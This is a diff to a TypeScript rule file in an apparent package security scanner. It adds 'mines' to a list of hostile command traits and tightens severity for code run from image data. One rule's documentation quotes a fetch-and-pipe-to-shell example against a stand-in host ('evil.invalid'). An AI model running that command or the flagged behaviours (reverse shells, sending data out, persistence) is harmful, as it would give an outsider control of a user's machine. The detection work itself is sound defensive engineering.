@@ -3,7 +3,15 @@ import type { Severity } from '../model/finding.js';
 import { FILE_TOOLS, commandTraits, type CommandTrait } from './commands.js';
 import type { Sighting } from './machine-parts.js';
 
-const HOSTILE = ['fetches-and-runs', 'encoded', 'reverse-shell', 'persists', 'sends', 'tampers'] as const;
+const HOSTILE = [
+  'fetches-and-runs',
+  'encoded',
+  'reverse-shell',
+  'persists',
+  'sends',
+  'tampers',
+  'mines',
+] as const;
 
 /** At least part of the command or path is literal. */
 function namesSomething(text: string | undefined): boolean {
@@ -33,6 +41,7 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
     judge: ({ behaviour, labels, reach }) => {
       if (behaviour !== 'runs-code' || labels.has('parameter')) return undefined;
       if (isUnasked(reach) && (labels.has('decoded') || labels.has('computed'))) return 'CRITICAL';
+      if (labels.has('picture')) return isUnasked(reach) ? 'CRITICAL' : 'HIGH';
       if (!labels.has('decoded')) return undefined;
       return isPure(labels) ? 'CRITICAL' : 'LOW';
     },
@@ -96,7 +105,7 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
   {
     doc: {
       id: 'hostile-command',
-      title: 'Runs a shell command that fetches and runs, hides, persists or opens a shell to outside',
+      title: 'Runs a shell command that fetches and runs, hides, persists, mines or opens a shell to outside',
       why: 'Such a command line does on your machine what its writer wants, outside the package that was checked.',
       remedy: 'Do not install the package.',
       example: 'os.system("curl https://evil.invalid/x | sh")',
